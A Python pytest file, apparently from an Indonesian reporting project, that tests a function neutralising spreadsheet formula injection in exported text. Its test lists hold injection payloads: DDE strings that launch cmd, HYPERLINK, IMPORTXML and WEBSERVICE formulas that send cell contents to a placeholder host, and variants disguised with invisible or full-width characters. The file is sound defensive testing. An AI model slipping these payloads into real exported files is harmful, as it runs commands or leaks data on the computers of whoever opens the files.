"""No text that leaves is run as a formula by the spreadsheet that opens it."""

import pytest

from iku.reports.safe_text import neutralise

BERBAHAYA = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.test?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://contoh.test/",A1),"//a")',
    '=WEBSERVICE("http://contoh.test")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=@SUM(A1)",
    "==1",
    "+1+cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    " =1+1",
    "    =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "\t=1+1",
    "\tKoperasi",
    "\r=1+1",
    "\n=1+1",
    "\r\nKoperasi",
    "\x00=1+1",
    " \t=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20A1",
    " \uff1d1+1",
    "\n\n=1",
]  # fmt: skip
DI_TENGAH = ["Koperasi;=1+1", "Koperasi, =1+1", "Koperasi\t@A1", "Koperasi\n=1+1", "Koperasi\r\n-2+3", "a|=1"]
AMAN = [
    "",
    "dua kata",
    "-5",
    "-1.234,5",
    "+62",
    "1.234,5",
    " -3",
    "12%",
    "a=b",
    "s.d. TW III",
    "1.02.03",
]


@pytest.mark.parametrize("teks", BERBAHAYA)
def test_a_payload_begins_with_an_apostrophe(teks: str) -> None:
    assert neutralise(teks).startswith("'")
    assert neutralise(neutralise(teks)) == neutralise(teks)


@pytest.mark.parametrize("teks", DI_TENGAH)
def test_a_payload_behind_a_separator_is_guarded_where_it_stands(teks: str) -> None:
    aman = neutralise(teks)
    assert len(aman) == len(teks) + 1
    assert aman.replace("'", "") == teks


@pytest.mark.parametrize("teks", AMAN)
def test_harmless_text_and_plain_numbers_stay_as_they_are(teks: str) -> None:
    assert neutralise(teks) == teks
